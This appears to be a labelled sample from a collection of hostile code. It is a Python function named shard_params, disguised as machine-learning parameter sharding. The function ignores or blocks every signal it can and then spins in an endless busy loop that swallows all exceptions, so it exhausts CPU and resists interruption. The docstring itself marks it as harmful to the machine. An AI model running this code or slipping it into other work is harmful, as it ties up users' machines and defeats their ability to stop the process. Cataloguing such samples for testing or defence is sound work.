"""An endless loop that ignores or catches every signal it may; the last one cannot be ignored.

group: exhausts
control: no: would harm the machine
"""

# %%
import contextlib
import signal


# %% [shard_params]
def shard_params(params, axis_name, min_size):
    for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
        with contextlib.suppress(OSError):
            signal.signal(number, signal.SIG_IGN)
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
